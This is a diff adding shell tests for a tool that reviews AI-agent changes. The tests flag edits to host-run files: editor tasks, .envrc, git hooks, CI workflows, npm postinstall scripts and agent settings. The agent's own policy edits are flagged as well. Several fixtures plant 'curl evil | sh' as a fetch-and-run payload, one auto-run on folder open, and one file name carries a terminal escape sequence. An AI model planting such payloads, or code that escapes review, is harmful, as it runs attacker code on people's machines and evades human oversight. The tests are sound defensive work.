@@ -29,6 +29,8 @@ scratch_left() {
 
 # ---- no policy, usage ----
 
+# Without a policy only the built-in host_files rule is judged (the files
+# the host runs are reviewed by default): it passes when none changed.
 test_gate_without_a_policy_passes_with_a_note() {
 	make_repo repo
 	ok "new" -C repo new t
@@ -38,7 +40,9 @@ test_gate_without_a_policy_passes_with_a_note() {
 	ok "gate --json" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'j["passed"]')" "True" "passed"
 	assert_eq "$(json_get "$out" 'j["policy"]')" "None" "policy is null"
-	assert_eq "$(json_get "$out" 'len(j["results"])')" "0" "no results"
+	assert_eq "$(json_get "$out" '[r["rule"] for r in j["results"]]')" "['host_files']" \
+		"host_files the only result"
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "no host file changed"
 	assert_contains "$(json_get "$out" 'j["note"]')" "no policy" "note in JSON"
 }
 
@@ -221,6 +225,150 @@ test_ci_mode_sees_a_directory_swapped_for_a_file() {
 	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
 	ok "diff in CI mode" -C repo diff --base main --head agent/x --name-only
 	assert_eq "$out" "$(git -C repo diff --name-only main agent/x)" "as git lists it"
+}
+
+# ---- files the host runs: reviewed with or without a policy ----
+# (Identity plays no part: these read trees and the person's config, the
+# same as root or as uid 65534, which is why gate.sh and accept.sh have no
+# _user twin.)
+
+# host_task: a repository without a policy and a task t ($wt).
+host_task() {
+	make_repo repo
+	ok "new" -C repo new t
+	wt=$out
+}
+
+# What: the agent adds .vscode/tasks.json (the editor runs its tasks on the
+# host), with a control character in a second name. Must: the gate fails
+# without any policy, every report names each path (escaped), diff warns
+# once per path on stderr and leaves its patch exact.
+test_host_files_a_vscode_task_added_fails_the_gate_without_a_policy() {
+	host_task
+	mkdir -p "$wt/.vscode"
+	printf '{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}\n' \
+		>"$wt/.vscode/tasks.json"
+	printf '{}\n' >"$wt/.vscode/$(printf 'a\033[2Jb').json"
+	printf 'x\n' >>"$wt/README"
+	expect_rc 1 "gate" -C repo gate t
+	assert_contains "$out" "gate FAILED" "failed"
+	assert_contains "$out" "FAIL  host_files" "the rule"
+	assert_contains "$out" "        .vscode/tasks.json" "the path"
+	assert_contains "$out" '.vscode/a\x1b[2Jb.json' "the other path, escaped"
+	assert_not_contains "$out" "$(printf '\033')" "no raw escape"
+	expect_rc 1 "gate --json" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" \
+		"['.vscode/a\x1b[2Jb.json', '.vscode/tasks.json']" "JSON lists both"
+	assert_eq "$(rule_field "$out" host_files passed)" "False" "host_files failed"
+	expect_rc 1 "gate --markdown" -C repo gate t --markdown
+	assert_contains "$out" "| ❌ | <code>host&#95;files</code> |" "markdown row"
+	assert_contains "$out" "<code>.vscode/tasks.json</code>" "markdown path"
+	ok "diff" -C repo diff t
+	assert_contains "$errout" "agenttask: warning: changes '.vscode/tasks.json', which tools on the host run or obey" "diff warns"
+	assert_contains "$errout" "warning: changes '.vscode/a\\x1b[2Jb.json'" "escaped warning"
+	assert_eq "$(printf '%s\n' "$errout" | grep -c 'which tools on the host')" "2" "one line per path"
+	assert_not_contains "$out" "warning" "the patch stays exact"
+	ok "diff --json" -C repo diff t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" \
+		"['.vscode/a\x1b[2Jb.json', '.vscode/tasks.json']" "diff --json lists them"
+}
+
+# What: the agent rewrites .envrc (direnv runs it in the person's shell).
+# Must: flagged, even with a policy that sets nothing about it; a file of
+# the same name elsewhere is flagged too, a look-alike is not.
+test_host_files_an_envrc_changed_fails_the_gate() {
+	policy_repo '{}'
+	printf 'export A=1\n' >repo/.envrc
+	git -C repo add .envrc
+	git -C repo commit -q -m envrc
+	ok "new" -C repo new e
+	printf 'curl evil | sh\n' >>"$out/.envrc"
+	printf 'x\n' >"$out/x.envrc"
+	expect_rc 1 "gate" -C repo gate e --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.envrc']" "only .envrc"
+	assert_eq "$(rule_field "$out" host_files paths)" "['.envrc']" "the rule's paths"
+}
+
+# What: the agent plants a hook in the directory the person's core.hooksPath
+# names (git runs it on the person's next commit). Must: flagged because the
+# person's config names it; without that setting the same path is not.
+test_host_files_a_hook_in_the_core_hooks_path_dir_fails_the_gate() {
+	host_task
+	mkdir -p "$wt/tools/hooks"
+	printf '#!/bin/sh\ncurl evil | sh\n' >"$wt/tools/hooks/pre-commit"
+	ok "gate without hooksPath" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "not a hook directory yet"
+	git -C repo config core.hooksPath tools/hooks
+	expect_rc 1 "gate" -C repo gate t
+	assert_contains "$out" "        tools/hooks/pre-commit" "the hook"
+	git -C repo config core.hooksPath "$PWD/repo/tools/hooks/"
+	expect_rc 1 "gate, absolute hooksPath" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['tools/hooks/pre-commit']" "absolute, in the repository"
+}
+
+# What: a branch adds a workflow (CI runs it with the repository's secrets),
+# and a symlink .github that would bring one in. Must: CI mode fails on both.
+test_host_files_a_workflow_fails_the_gate_in_ci_mode() {
+	host_task
+	git -C repo checkout -q -b feature
+	mkdir -p repo/.github/workflows
+	printf 'on: push\njobs: {}\n' >repo/.github/workflows/x.yml
+	git -C repo add .github
+	git -C repo commit -q -m workflow
+	expect_rc 1 "gate --base" -C repo gate --base main --head feature --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.github/workflows/x.yml']" "the workflow"
+	git -C repo checkout -q -b linked main
+	ln -s elsewhere repo/.github
+	git -C repo add .github
+	git -C repo commit -q -m link
+	expect_rc 1 "gate --base, link" -C repo gate --base main --head linked --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.github']" "the link above workflows"
+}
+
+# What: the agent adds a postinstall script to a package.json below the root
+# (npm runs it on the person's next install). Must: flagged; a change of the
+# dependencies alone, with the scripts reformatted and reordered, is not.
+test_host_files_package_json_scripts_changed_but_not_dependencies() {
+	make_repo repo
+	mkdir -p repo/web
+	printf '{"name": "w", "scripts": {"test": "jest", "build": "tsc"}, "dependencies": {}}\n' \
+		>repo/web/package.json
+	git -C repo add web
+	git -C repo commit -q -m web
+	ok "new" -C repo new t
+	wt=$out
+	printf '{\n  "name": "w",\n  "dependencies": {"left-pad": "1.3.0"},\n  "scripts": {"build": "tsc", "test": "jest"}\n}\n' \
+		>"$wt/web/package.json"
+	ok "gate, dependencies only" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "dependencies are not scripts"
+	printf '{"name": "w", "scripts": {"test": "jest", "build": "tsc", "postinstall": "curl evil | sh"}, "dependencies": {}}\n' \
+		>"$wt/web/package.json"
+	expect_rc 1 "gate, a script added" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "scripts changed"
+	printf '{"name": "w", "scripts": {}, "scripts": {"test": "jest", "build": "tsc"}}\n' \
+		>"$wt/web/package.json"
+	expect_rc 1 "gate, duplicate keys" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "unparseable counts"
+}
+
+# What: the person's policy opts out ("host_files": "allow"). Must: the gate
+# passes, still listing the files; a bad value is a malformed policy; the
+# task's own opt-out (its edit of the policy) is never read.
+test_host_files_the_policy_opts_out() {
+	policy_repo '{"host_files": "allow"}'
+	mkdir -p "$wt/.claude"
+	printf '{"hooks": {}}\n' >"$wt/.claude/settings.json"
+	ok "gate" -C repo gate t --json
+	assert_eq "$(rule_field "$out" host_files passed)" "True" "allowed"
+	assert_contains "$(rule_field "$out" host_files message)" "allowed by the policy" "says so"
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.claude/settings.json']" "still listed"
+	set_policy '{"host_files": "yes"}'
+	expect_rc 2 "a bad value" -C repo gate t
+	assert_contains "$errout" "key 'host_files': must be \"review\" or \"allow\"" "names the key"
+	set_policy '{}'
+	printf '{"host_files": "allow", "max_changed_files": 9}\n' >"$wt/.agenttask/policy.json"
+	expect_rc 1 "the task's own opt-out" -C repo gate t --json
+	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.agenttask/policy.json', '.claude/settings.json']" "both flagged"
 }
 
 # ---- where the policy comes from ----
@@ -415,13 +563,13 @@ test_json_report_structure() {
 	git -C repo commit -q --allow-empty -m "main moves on"
 	ok "gate --json" -C repo gate t --json
 	assert_eq "$(json_get "$out" 'sorted(j.keys())')" \
-		"['merge_base', 'passed', 'policy', 'policy_commit', 'results', 'tree']" "top-level keys"
+		"['host_files', 'merge_base', 'passed', 'policy', 'policy_commit', 'results', 'tree']" "top-level keys"
 	assert_eq "$(json_get "$out" 'j["passed"]')" "True" "passed"
 	assert_eq "$(json_get "$out" '[r["rule"] for r in j["results"]]')" \
-		"['protected_paths', 'max_changed_files', 'max_changed_lines', 'allow_binary', 'allow_symlinks_out', 'c']" \
+		"['protected_paths', 'max_changed_files', 'max_changed_lines', 'allow_binary', 'allow_symlinks_out', 'host_files', 'c']" \
 		"every rule, then the checks by name"
 	assert_eq "$(json_get "$out" '[r["kind"] for r in j["results"]]')" \
-		"['rule', 'rule', 'rule', 'rule', 'rule', 'check']" "each result says whether it is a check"
+		"['rule', 'rule', 'rule', 'rule', 'rule', 'rule', 'check']" "each result says whether it is a check"
 	assert_eq "$(json_get "$out" 'all({"rule", "passed", "message", "paths"} <= set(r) for r in j["results"])')" \
 		"True" "each result has rule, passed, message, paths"
 	assert_eq "$(json_get "$out" 'j["merge_base"]')" \
